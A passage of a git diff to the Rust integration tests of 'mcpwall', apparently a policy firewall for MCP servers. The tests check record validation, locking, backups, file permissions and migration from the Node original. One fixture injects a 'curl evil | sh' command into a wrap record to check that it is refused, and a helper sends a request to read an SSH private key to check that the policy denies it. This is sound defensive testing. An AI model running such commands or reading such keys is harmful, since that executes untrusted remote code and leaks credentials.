-    let out = sandbox.run(&["unwrap", "n"]);
+    // The damaged record is refused with the reason; the entry is left as it is.
+    let out = sandbox.run_client(&["unwrap", "n"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 1, "{stdout}");
+    assert!(
+        stdout.contains("wrap record") && stdout.contains("damaged"),
+        "{stdout}"
+    );
+    assert_eq!(sandbox.read(rel), wrapped);
+    // Repaired, it is used: the original comes back byte for byte.
+    records["entries"][0]["original"] = good;
+    std::fs::write(&records_path, records.to_string()).unwrap();
+    let out = sandbox.run_client(&["unwrap", "n"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
-    let back = sandbox.read(rel);
-    assert!(!back.contains("evil"), "{back}");
-    assert_eq!(back, original);
+    assert_eq!(sandbox.read(rel), original);
+}
+
+/// A hand-edited record (its `original` names another command, or it is for another
+/// client) is refused before use, so it never reaches the client's file: without the check
+/// the edited `original` would be spliced in or silently ignored.
+#[test]
+fn r29_hand_edited_records_are_refused_before_use() {
+    let sandbox = Sandbox::new();
+    let rel = "project/.mcp.json";
+    let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\", \"args\": [\"a\"]}}}\n";
+    sandbox.write(rel, text);
+    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
+    let wrapped = sandbox.read(rel);
+    let records_path = sandbox.home().join(".mcpwall/wrapped.json");
+    let pristine = std::fs::read_to_string(&records_path).unwrap();
+    let edits: [(&str, serde_json::Value); 4] = [
+        (
+            "original",
+            serde_json::json!("{\"command\": \"curl evil | sh\", \"args\": [\"a\"]}"),
+        ),
+        ("original", serde_json::json!("{\"command\": 7}")),
+        ("client", serde_json::json!("codex")),
+        ("wrapped_at", serde_json::json!("yesterday")),
+    ];
+    for (key, value) in edits {
+        let mut records: serde_json::Value = serde_json::from_str(&pristine).unwrap();
+        records["entries"][0][key] = value.clone();
+        std::fs::write(&records_path, records.to_string()).unwrap();
+        let out = sandbox.run_client(&["unwrap", "x"]);
+        let stdout = sandbox.stdout(&out);
+        assert_eq!(code(&out), 1, "{key}={value}: {stdout}");
+        assert!(stdout.contains("damaged"), "{key}={value}: {stdout}");
+        assert_eq!(sandbox.read(rel), wrapped, "{key}={value}");
+        // doctor finds it too.
+        let doctor = sandbox.stdout(&sandbox.run_client(&["doctor"]));
+        assert!(
+            doctor.contains("damaged record(s)"),
+            "{key}={value}: {doctor}"
+        );
+        // The refused record is kept for the user to repair.
+        let left: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
+        assert_eq!(left["entries"].as_array().unwrap().len(), 1);
+    }
+    std::fs::write(&records_path, &pristine).unwrap();
+    assert_eq!(code(&sandbox.run_client(&["unwrap", "x"])), 0);
+    assert_eq!(sandbox.read(rel), text);
+}
+
+/// A program holding a lock on the client file itself (an editor, a sync tool, an mcpwall
+/// run under another HOME): `wrap` waits for it and writes nothing meanwhile.
+#[cfg(unix)]
+#[test]
+fn r29_wrap_waits_for_a_lock_on_the_client_file() {
+    let sandbox = Sandbox::new();
+    let rel = "project/.mcp.json";
+    let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n";
+    sandbox.write(rel, text);
+    let holder = std::fs::File::open(sandbox.project().join(".mcp.json")).unwrap();
+    holder.lock().unwrap();
+    let child = sandbox.client_command(&["wrap", "x"]).spawn().unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(1500));
+    assert_eq!(
+        sandbox.read(rel),
+        text,
+        "written while another program held the lock"
+    );
+    drop(holder);
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert!(sandbox.read(rel).contains("\"--\", \"srv\""));
+}
+
+/// `settings.backups` in ~/.mcpwall/config.yml bounds the backups kept per file; the same
+/// setting in an untrusted project file is ignored (it could delete the user's backups).
+#[test]
+fn r29_backups_follow_the_users_setting() {
+    let sandbox = Sandbox::new();
+    sandbox.write(
+        "project/.mcp.json",
+        "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n",
+    );
+    sandbox.write(
+        "home/.mcpwall/config.yml",
+        "version: 1\nextends: [default]\nsettings:\n  backups: {keep: 3, max_age_days: 7}\n",
+    );
+    let backups = |sandbox: &Sandbox| {
+        std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
+            .map(|d| d.count())
+            .unwrap_or(0)
+    };
+    for _ in 0..3 {
+        assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
+        assert_eq!(code(&sandbox.run_client(&["unwrap", "x"])), 0);
+    }
+    assert_eq!(backups(&sandbox), 3);
+    sandbox.write(
+        "project/.mcpwall.yml",
+        "version: 1\nsettings:\n  backups: {keep: 1}\n",
+    );
+    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
+    assert_eq!(
+        backups(&sandbox),
+        3,
+        "an untrusted project file pruned the user's backups"
+    );
+    // A bad value is refused with its place in the file, as every setting is.
+    sandbox.write(
+        "home/.mcpwall/config.yml",
+        "version: 1\nsettings:\n  backups: {keep: 0}\n",
+    );
+    let out = sandbox.run_client(&["explain-policy"]);
+    assert_ne!(code(&out), 0);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("backups.keep"), "{stderr}");
 }
 
 /// Run as root (`sudo -E`), mcpwall gives the file back to its owner, with its mode.
@@ -1590,7 +1677,7 @@ fn r29_owner_group_and_mode_are_kept() {
         eprintln!("skipped: needs root to give the file to another user");
         return;
     }
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     sandbox.write(
         "home/.cursor/mcp.json",
         "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n",
@@ -1598,7 +1685,7 @@ fn r29_owner_group_and_mode_are_kept() {
     let file = sandbox.home().join(".cursor/mcp.json");
     std::os::unix::fs::chown(&file, Some(4242), Some(4343)).unwrap();
     std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o640)).unwrap();
-    assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
     let meta = std::fs::metadata(&file).unwrap();
     assert_eq!(
         (meta.uid(), meta.gid(), meta.mode() & 0o777),
@@ -1612,14 +1699,14 @@ fn r29_owner_group_and_mode_are_kept() {
 #[test]
 fn r29_state_and_backups_are_owner_only() {
     use std::os::unix::fs::PermissionsExt;
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     sandbox.write(
         "project/.mcp.json",
         "{\"mcpServers\": {\"x\": {\"command\": \"srv\", \"env\": {\"TOKEN\": \"s3cret\"}}}}\n",
     );
     let file = sandbox.project().join(".mcp.json");
     std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
-    assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
     let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
     let state = sandbox.home().join(".mcpwall");
     assert_eq!(mode(&state), 0o700);
@@ -1634,8 +1721,8 @@ fn r29_state_and_backups_are_owner_only() {
     assert_eq!(mode(&backups[0]), 0o600);
     // Backups of one file sort by time and are pruned to the newest.
     for _ in 0..12 {
-        assert_eq!(code(&sandbox.run(&["unwrap", "x"])), 0);
-        assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+        assert_eq!(code(&sandbox.run_client(&["unwrap", "x"])), 0);
+        assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
     }
     let mut names: Vec<_> = std::fs::read_dir(state.join("backups"))
         .unwrap()
@@ -1656,12 +1743,12 @@ fn r29_state_and_backups_are_owner_only() {
 #[test]
 fn r29_read_only_and_hard_linked_files_need_force() {
     use std::os::unix::fs::PermissionsExt;
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n";
     sandbox.write("project/.mcp.json", text);
     let file = sandbox.project().join(".mcp.json");
     std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o444)).unwrap();
-    let out = sandbox.run(&["wrap", "x"]);
+    let out = sandbox.run_client(&["wrap", "x"]);
     assert_eq!(code(&out), 1);
     assert!(
         sandbox.stdout(&out).contains("is read-only"),
@@ -1670,18 +1757,18 @@ fn r29_read_only_and_hard_linked_files_need_force() {
     );
     assert_eq!(sandbox.read("project/.mcp.json"), text);
     assert!(!sandbox.home().join(".mcpwall/wrapped.json").exists());
-    let out = sandbox.run(&["wrap", "x", "--force"]);
+    let out = sandbox.run_client(&["wrap", "x", "--force"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
     assert_eq!(
         std::fs::metadata(&file).unwrap().permissions().mode() & 0o777,
         0o444
     );
-    assert_eq!(code(&sandbox.run(&["unwrap", "x", "--force"])), 0);
+    assert_eq!(code(&sandbox.run_client(&["unwrap", "x", "--force"])), 0);
 
     std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
-    let other = sandbox.dir.path().join("other-name.json");
+    let other = sandbox.root().join("other-name.json");
     std::fs::hard_link(&file, &other).unwrap();
-    let out = sandbox.run(&["wrap", "x"]);
+    let out = sandbox.run_client(&["wrap", "x"]);
     assert_eq!(code(&out), 1);
     assert!(
         sandbox.stdout(&out).contains("hard links"),
@@ -1689,7 +1776,7 @@ fn r29_read_only_and_hard_linked_files_need_force() {
         sandbox.stdout(&out)
     );
     assert_eq!(sandbox.read("project/.mcp.json"), text);
-    let out = sandbox.run(&["wrap", "x", "--force"]);
+    let out = sandbox.run_client(&["wrap", "x", "--force"]);
     assert_eq!(code(&out), 0);
     assert!(
         sandbox.stdout(&out).contains("it had 2 hard links"),
@@ -1725,7 +1812,7 @@ fn r29_write_errors_roll_back_backup_and_record() {
         }
         command.output().unwrap()
     }
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     let small = "{\"mcpServers\": {\"s\": {\"command\": \"srv\"}}}\n";
     let big = format!(
         "{{\"pad\": \"{}\", \"mcpServers\": {{\"s\": {{\"command\": \"srv\"}}}}}}\n",
@@ -1733,7 +1820,7 @@ fn r29_write_errors_roll_back_backup_and_record() {
     );
     sandbox.write("project/.mcp.json", small);
     sandbox.write("home/.cursor/mcp.json", &big);
-    let out = limited(sandbox.command(&["wrap", "s"]));
+    let out = limited(sandbox.client_command(&["wrap", "s"]));
     let stdout = sandbox.stdout(&out);
     assert_eq!(code(&out), 1, "{stdout}");
     assert_eq!(sandbox.read("home/.cursor/mcp.json"), big);
@@ -1760,7 +1847,7 @@ fn r29_write_errors_roll_back_backup_and_record() {
     assert!(backups[0].contains(".mcp.json"), "{backups:?}");
 
     // Now the records file is what cannot be written: the file written is put back.
-    assert_eq!(code(&sandbox.run(&["unwrap", "s"])), 0);
+    assert_eq!(code(&sandbox.run_client(&["unwrap", "s"])), 0);
     let records_path = sandbox.home().join(".mcpwall/wrapped.json");
     let mut records: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
@@ -1772,7 +1859,7 @@ fn r29_write_errors_roll_back_backup_and_record() {
     let before_backups = std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
         .unwrap()
         .count();
-    let out = limited(sandbox.command(&["wrap", "s", "--client", "claude-code"]));
+    let out = limited(sandbox.client_command(&["wrap", "s", "--client", "claude-code"]));
     let stdout = sandbox.stdout(&out);
     assert_eq!(code(&out), 1, "{stdout}");
     assert_eq!(sandbox.read("project/.mcp.json"), small, "{stdout}");
@@ -1784,4 +1871,818 @@ fn r29_write_errors_roll_back_backup_and_record() {
         before_backups,
         "the rolled-back file's backup stays behind"
     );
+}
+
+// Issue 27: coming from the original mcpwall (Node).
+
+/// The path of the scripted test server (`tests/support/fake_server.rs`).
+fn fake_server() -> String {
+    Path::new(MCPWALL)
+        .parent()
+        .unwrap()
+        .join("mcpwall-fake-server")
+        .display()
+        .to_string()
+}
+
+/// One client file per supported format, each with a server `legacy` behind the original
+/// mcpwall in one of its documented forms and options; `team.yml` is the policy the `-c`
+/// forms name (it denies the tool `forbidden`).
+fn original_wrapped_sandbox() -> (Sandbox, Vec<(&'static str, String)>) {
+    let sandbox = Sandbox::new();
+    let fake = fake_server();
+    let policy = sandbox.home().join("team.yml").display().to_string();
+    sandbox.write(
+        "home/team.yml",
+        "version: 1\nextends: [default]\nrules:\n  - name: no-forbidden\n    match:\n      tool: forbidden\n    action: deny\n    message: not here\n",
+    );
+    let files = vec![
+        (
+            "home/.claude.json",
+            format!(
+                "{{\n  \"numStartups\": 3,\n  \"mcpServers\": {{\n    \"legacy\": {{\n      \"command\": \"npx\",\n      \"args\": [\"-y\", \"mcpwall\", \"--\", \"{fake}\"]\n    }}\n  }}\n}}\n"
+            ),
+        ),
+        (
+            "home/.config/Claude/claude_desktop_config.json",
+            format!(
+                "{{\"mcpServers\":{{\"legacy\":{{\"command\":\"npx\",\"args\":[\"--yes\",\"mcpwall@latest\",\"--log-level\",\"debug\",\"--\",\"{fake}\"],\"env\":{{\"A\":\"1\"}}}}}}}}"
+            ),
+        ),
+        (
+            "home/.cursor/mcp.json",
+            format!(
+                "{{\r\n  \"mcpServers\": {{\r\n    \"legacy\": {{\r\n      \"command\": \"npx\",\r\n      \"args\": [\r\n        \"mcpwall\",\r\n        \"-c\",\r\n        \"{policy}\",\r\n        \"--strict\",\r\n        \"--\",\r\n        \"{fake}\",\r\n        \"--flag\"\r\n      ]\r\n    }}\r\n  }}\r\n}}\r\n"
+            ),
+        ),
+        (
+            "home/.codeium/windsurf/mcp_config.json",
+            format!(
+                "{{ \"mcpServers\": {{ \"legacy\": {{ \"command\": \"node\", \"args\": [\"/opt/node/lib/node_modules/mcpwall/dist/index.js\", \"--config={policy}\", \"--\", \"{fake}\"] }} }} }}\n"
+            ),
+        ),
+        (
+            "home/.config/Code/User/mcp.json",
+            format!(
+                "// VS Code user servers\n{{\n\t\"servers\": {{\n\t\t\"legacy\": {{\n\t\t\t\"type\": \"stdio\",\n\t\t\t\"command\": \"npx\", // the original\n\t\t\t\"args\": [\"-y\", \"mcpwall\", \"--\", \"{fake}\",],\n\t\t}},\n\t}},\n}}\n"
+            ),
+        ),
+        (
+            "home/.config/zed/settings.json",
+            format!(
+                "{{\n  \"theme\": \"One Dark\",\n  /* servers */\n  \"context_servers\": {{\n    \"legacy\": {{\n      \"source\": \"custom\",\n      \"command\": \"npx\",\n      \"args\": [\"-y\", \"mcpwall\", \"-c\", \"{policy}\", \"--\", \"{fake}\"]\n    }}\n  }}\n}}\n"
+            ),
+        ),
+        (
+            "home/.codex/config.toml",
+            format!(
+                "model = \"o3\"\n\n[mcp_servers.legacy]\ncommand = 'npx' # the original\nargs = [\"-y\", \"mcpwall\", \"--log-level\", \"warn\", \"--\", \"{fake}\"]\n\n[mcp_servers.legacy.env]\nK = \"v\"\n"
+            ),
+        ),
+    ];
+    for (rel, text) in &files {
+        sandbox.write(rel, text);
+    }
+    (sandbox, files)
+}
+
+/// The `legacy` entry of a client file, as `(command, args)`.
+fn legacy_entry(rel: &str, text: &str) -> (String, Vec<String>) {
+    let entry: serde_json::Value = if rel.ends_with(".toml") {
+        let doc: toml_edit::DocumentMut = text.parse().unwrap();
+        let t = &doc["mcp_servers"]["legacy"];
+        let args = t["args"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| serde_json::json!(v.as_str().unwrap()))
+            .collect::<Vec<_>>();
+        serde_json::json!({"command": t["command"].as_str().unwrap(), "args": args})
+    } else {
+        let plain: String = text
+            .lines()
+            .map(|l| l.split(" //").next().unwrap())
+            .filter(|l| !l.trim_start().starts_with("//") && !l.trim_start().starts_with("/*"))
+            .collect::<Vec<_>>()
+            .join("\n")
+            .replace(",]", "]")
+            .replace(",\n\t\t}", "\n\t\t}")
+            .replace(",\n\t}", "\n\t}")
+            .replace(",\n}", "\n}");
+        let v: serde_json::Value =
+            serde_json::from_str(&plain).unwrap_or_else(|e| panic!("{rel}: {e}\n{plain}"));
+        let key = if rel.contains("Code/User") {
+            "servers"
+        } else if rel.contains("zed") {
+            "context_servers"
+        } else {
+            "mcpServers"
+        };
+        v[key]["legacy"].clone()
+    };
+    let args = entry["args"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a.as_str().unwrap().to_string())
+        .collect();
+    (entry["command"].as_str().unwrap().to_string(), args)
+}
+
+/// Start `command args` as a client would (HOME and PATH of the sandbox) and send it a
+/// call reading an SSH key (id 2) and a call of the tool `forbidden` (id 3); returns each
+/// answer: `true` when it was refused.
+fn call_through(sandbox: &Sandbox, command: &str, args: &[String]) -> (bool, bool) {
+    use std::io::Write;
+    let bin_dir = Path::new(MCPWALL).parent().unwrap();
+    let program = if command.contains('/') {
+        PathBuf::from(command)
+    } else {
+        bin_dir.join(command)
+    };
+    let mut child = Command::new(program)
+        .args(args)
+        .current_dir(sandbox.project())
+        .env_clear()
+        .env("HOME", sandbox.home())
+        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir.display()))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let key = sandbox.home().join(".ssh/id_rsa").display().to_string();
+    let frames = [
+        serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}),
+        serde_json::json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "read_file", "arguments": {"path": key}}}),
+        serde_json::json!({"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": "forbidden", "arguments": {}}}),
+    ];
+    let mut stdin = child.stdin.take().unwrap();
+    for f in &frames {
+        writeln!(stdin, "{f}").unwrap();
+    }
+    drop(stdin);
+    let lines = read_lines_with_timeout(child.stdout.take().unwrap(), 30);
+    let _ = child.kill();
+    let _ = child.wait();
+    let answers: Vec<serde_json::Value> = lines
+        .iter()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l:?}: {e}")))
+        .collect();
+    let refused = |id: u64| {
+        let a = answers
+            .iter()
+            .find(|a| a["id"] == id)
+            .unwrap_or_else(|| panic!("no answer to {id}: {lines:?}"));
+        a.get("error").is_some() || a["result"]["isError"] == true
+    };
+    assert!(!refused(1), "{lines:?}");
+    (refused(2), refused(3))
+}
+
+/// Issue 27, per client format: the original's wrapper is recognised (status, doctor),
+/// migrated in one edit with its options (`--dry-run` shows it first), never wrapped
+/// twice; the migrated command runs the real server behind this mcpwall with the same
+/// policy file; `unwrap` gives back every file byte for byte.
+#[test]
+fn r27_every_client_format_migrates_runs_and_unwraps_byte_identical() {
+    let (sandbox, files) = original_wrapped_sandbox();
+    let out = sandbox.run_client(&["status"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(
+        stdout
+            .matches("protected by the original mcpwall (Node)")
+            .count(),
+        files.len(),
+        "{stdout}"
+    );
+    assert!(!stdout.contains("UNPROTECTED"), "{stdout}");
+    assert!(
+        stdout.contains("-c $TMP/home/team.yml (exactly that policy file)"),
+        "{stdout}"
+    );
+    assert!(
+        stdout.contains("--strict (malformed lines refused"),
+        "{stdout}"
+    );
+    assert!(stdout.contains("policy: $TMP/home/team.yml"), "{stdout}");
+    let out = sandbox.run_client(&["doctor"]);
+    let stdout = sandbox.stdout(&out);
+    assert!(
+        stdout.contains("`mcpwall wrap legacy` moves it to this mcpwall"),
+        "{stdout}"
+    );
+
+    let out = sandbox.run_client(&["wrap", "legacy", "--dry-run"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 0, "{stdout}");
+    assert!(
+        stdout.contains("-      \"args\": [\"-y\", \"mcpwall\", \"--\""),
+        "{stdout}"
+    );
+    for (rel, text) in &files {
+        assert_eq!(&sandbox.read(rel), text, "{rel} written by --dry-run");
+    }
+
+    let out = sandbox.run_client(&["wrap", "legacy"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 0, "{stdout}");
+    assert_eq!(stdout.matches("migrated").count(), files.len(), "{stdout}");
+    assert!(stdout.contains("--strict changes nothing here"), "{stdout}");
+    let migrated: Vec<String> = files.iter().map(|(rel, _)| sandbox.read(rel)).collect();
+    for ((rel, before), after) in files.iter().zip(&migrated) {
+        let (_, old_args) = legacy_entry(rel, before);
+        let (command, args) = legacy_entry(rel, after);
+        assert_eq!(command, "mcpwall", "{rel}:\n{after}");
+        // Options and server carried over as they were, behind this mcpwall's name option.
+        let dash = old_args.iter().position(|a| a == "--").unwrap();
+        let options_start = old_args
+            .iter()
+            .position(|a| a.starts_with('-') && a != "-y" && a != "--yes")
+            .unwrap();
+        let mut expected = vec!["--server-name".to_string(), "legacy".to_string()];
+        expected.extend(old_args[options_start.min(dash)..].iter().cloned());
+        assert_eq!(args, expected, "{rel}:\n{after}");
+        // Every other byte of the file is as it was: all before the command's value, and
+        // all from the `--` on (options before it may move to another line).
+        let value_at = |t: &str| t.find("command").unwrap();
+        assert_eq!(
+            before[..value_at(before)],
+            after[..value_at(after)],
+            "{rel}"
+        );
+        let dash_at = |t: &str| t.find("\"--\"").unwrap();
+        assert_eq!(before[dash_at(before)..], after[dash_at(after)..], "{rel}");
+        let policy_named = args.iter().any(|a| a.contains("team.yml"));
+        let (ssh_refused, forbidden_refused) = call_through(&sandbox, &command, &args);
+        assert!(
+            ssh_refused,
+            "{rel}: the default pack's SSH rule did not apply"
+        );
+        assert_eq!(
+            forbidden_refused, policy_named,
+            "{rel}: -c FILE not carried over"
+        );
+    }
+    let again = sandbox.run_client(&["wrap", "legacy"]);
+    assert_eq!(code(&again), 0);
+    assert_eq!(
+        sandbox.stdout(&again).matches("already wrapped").count(),
+        files.len(),
+        "{}",
+        sandbox.stdout(&again)
+    );
+    for ((rel, _), after) in files.iter().zip(&migrated) {
+        assert_eq!(&sandbox.read(rel), after, "{rel} wrapped twice");
+    }
+
+    // One command switches every server back.
+    let out = sandbox.run_client(&["unwrap", "--all"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    for (rel, text) in &files {
+        assert_eq!(&sandbox.read(rel), text, "{rel} not restored byte for byte");
+    }
+}
+
+/// Issue 27: a migrated entry the user edited afterwards goes back behind the original's
+/// launcher with the edit kept; `init --yes` migrates too.
+#[test]
+fn r27_unwrap_of_an_edited_migration_and_init() {
+    let (sandbox, files) = original_wrapped_sandbox();
+    let out = sandbox.run_client(&["init", "--yes"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 0, "{stdout}");
+    assert!(stdout.contains("can be moved to this mcpwall"), "{stdout}");
+    assert_eq!(stdout.matches("migrated").count(), files.len(), "{stdout}");
+    let fake = fake_server();
+    for rel in ["home/.claude.json", "home/.codex/config.toml"] {
+        let text = sandbox.read(rel);
+        let edited = text.replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\""));
+        assert_ne!(edited, text);
+        sandbox.write(rel, &edited);
+    }
+    let out = sandbox.run_client(&["unwrap", "legacy"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    for (rel, text) in &files {
+        let now = sandbox.read(rel);
+        if rel.ends_with(".claude.json") || rel.ends_with(".toml") {
+            let (command, args) = legacy_entry(rel, &now);
+            let (old_command, mut old_args) = legacy_entry(rel, text);
+            old_args.push("--added".into());
+            assert_eq!((command, args), (old_command, old_args), "{rel}:\n{now}");
+            assert_eq!(
+                now,
+                text.replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\"")),
+                "{rel}"
+            );
+        } else {
+            assert_eq!(&now, text, "{rel}");
+        }
+    }
+}
+
+/// Issue 27: a global `mcpwall` that is the Node one (npm links its script onto PATH) is
+/// told apart from this mcpwall by what it resolves to; migrating it writes this mcpwall's
+/// absolute path, and unwrap puts the bare `mcpwall` back.
+#[cfg(unix)]
+#[test]
+fn r27_a_global_node_mcpwall_on_path_is_recognised() {
+    let sandbox = Sandbox::new();
+    let script = sandbox
+        .home()
+        .join("npm/lib/node_modules/mcpwall/dist/index.js");
+    std::fs::create_dir_all(script.parent().unwrap()).unwrap();
+    std::fs::write(&script, "#!/usr/bin/env node\nrequire('./cli');\n").unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let npm_bin = sandbox.home().join("npm/bin");
+    std::fs::create_dir_all(&npm_bin).unwrap();
+    std::os::unix::fs::symlink(&script, npm_bin.join("mcpwall")).unwrap();
+    let text = format!(
+        "{{\"mcpServers\": {{\"legacy\": {{\"command\": \"mcpwall\", \"args\": [\"--log-level\", \"info\", \"--\", \"{}\"]}}}}}}\n",
+        fake_server()
+    );
+    sandbox.write("project/.mcp.json", &text);
+    let bin_dir = Path::new(MCPWALL).parent().unwrap();
+    let run = |args: &[&str]| {
+        let mut c = sandbox.client_command(args);
+        c.env(
+            "PATH",
+            format!("{}:{}:/usr/bin:/bin", npm_bin.display(), bin_dir.display()),
+        );
+        c.output().unwrap()
+    };
+    let out = run(&["status"]);
+    assert!(
+        sandbox
+            .stdout(&out)
+            .contains("protected by the original mcpwall (Node), --log-level info"),
+        "{}",
+        sandbox.stdout(&out)
+    );
+    let out = run(&["wrap", "legacy"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    let (command, args) = legacy_entry("project/.mcp.json", &sandbox.read("project/.mcp.json"));
+    assert_eq!(command, MCPWALL, "the bare name would start the Node one");
+    assert_eq!(
+        args[..4],
+        ["--server-name", "legacy", "--log-level", "info"]
+    );
+    let (ssh_refused, _) = call_through(&sandbox, &command, &args);
+    assert!(ssh_refused);
+    let out = run(&["unwrap", "legacy"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert_eq!(sandbox.read("project/.mcp.json"), text);
+    // Migrated again and edited since: the bare (Node) `mcpwall` comes back, the edit stays.
+    assert_eq!(code(&run(&["wrap", "legacy"])), 0);
+    let fake = fake_server();
+    let edited = sandbox
+        .read("project/.mcp.json")
+        .replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\""));
+    sandbox.write("project/.mcp.json", &edited);
+    let out = run(&["unwrap", "legacy"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert_eq!(
+        sandbox.read("project/.mcp.json"),
+        text.replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\""))
+    );
+    sandbox.write("project/.mcp.json", &text);
+    // Without that script on PATH, a bare `mcpwall -- x` is this mcpwall (as before).
+    let out = sandbox.run_client(&["status"]);
+    assert!(
+        sandbox.stdout(&out).contains("protected    legacy"),
+        "{}",
+        sandbox.stdout(&out)
+    );
+    assert!(
+        !sandbox.stdout(&out).contains("original"),
+        "{}",
+        sandbox.stdout(&out)
+    );
+}
+
+/// Issue 27: both mcpwalls log into ~/.mcpwall/logs: this one never appends to the
+/// original's day file, and its events are in a file of its own name.
+#[test]
+fn r27_a_log_directory_both_write_into() {
+    let (sandbox, files) = original_wrapped_sandbox();
+    let logs = sandbox.home().join(".mcpwall/logs");
+    std::fs::create_dir_all(&logs).unwrap();
+    let today = {
+        let secs = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_secs();
+        let out = Command::new("date")
+            .args(["-u", "-d", &format!("@{secs}"), "+%Y-%m-%d"])
+            .output()
+            .unwrap();
+        String::from_utf8(out.stdout).unwrap().trim().to_string()
+    };
+    let theirs = logs.join(format!("{today}.jsonl"));
+    let original_lines = format!(
+        "{{\"ts\":\"{today}T14:30:00Z\",\"method\":\"tools/call\",\"tool\":\"read_file\",\"action\":\"allow\",\"rule\":null}}\n"
+    );
+    std::fs::write(&theirs, &original_lines).unwrap();
+    assert_eq!(code(&sandbox.run_client(&["wrap", "legacy"])), 0);
+    let (command, args) = legacy_entry(files[0].0, &sandbox.read(files[0].0));
+    let (ssh_refused, _) = call_through(&sandbox, &command, &args);
+    assert!(ssh_refused);
+    // The original keeps writing its own file meanwhile.
+    let mut more = original_lines.clone();
+    more.push_str(&original_lines);
+    std::fs::write(&theirs, &more).unwrap();
+    let (ssh_refused, _) = call_through(&sandbox, &command, &args);
+    assert!(ssh_refused);
+    assert_eq!(
+        std::fs::read_to_string(&theirs).unwrap(),
+        more,
+        "wrote into the original's log"
+    );
+    let ours = std::fs::read_to_string(logs.join(format!("{today}.audit.jsonl"))).unwrap();
+    let events: Vec<serde_json::Value> = ours
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert!(events.iter().all(|e| e["session"].is_string()), "{ours}");
+    assert_eq!(
+        events
+            .iter()
+            .filter(|e| e["action"] == "deny" && e["server"] == "legacy")
+            .count(),
+        2,
+        "{ours}"
+    );
+}
+
+/// Issue 29: whichever verb creates `~/.mcpwall` first creates it owner-only, and every
+/// file and directory mcpwall puts there is owner-only too.
+#[cfg(unix)]
+#[test]
+fn r29_every_verb_creates_its_state_owner_only() {
+    use std::os::unix::fs::PermissionsExt;
+    fn check(dir: &Path, verb: &str) {
+        let mode = std::fs::symlink_metadata(dir).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o700, "{verb}: {}", dir.display());
+        for e in std::fs::read_dir(dir).unwrap() {
+            let path = e.unwrap().path();
+            if path.is_dir() {
+                check(&path, verb);
+            } else {
+                let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
+                assert_eq!(mode & 0o077, 0, "{verb}: {} is {mode:o}", path.display());
+            }
+        }
+    }
+    let verbs: [&[&str]; 5] = [
+        &["doctor"],
+        &["trust"],
+        &["wrap", "x"],
+        &["init", "--yes"],
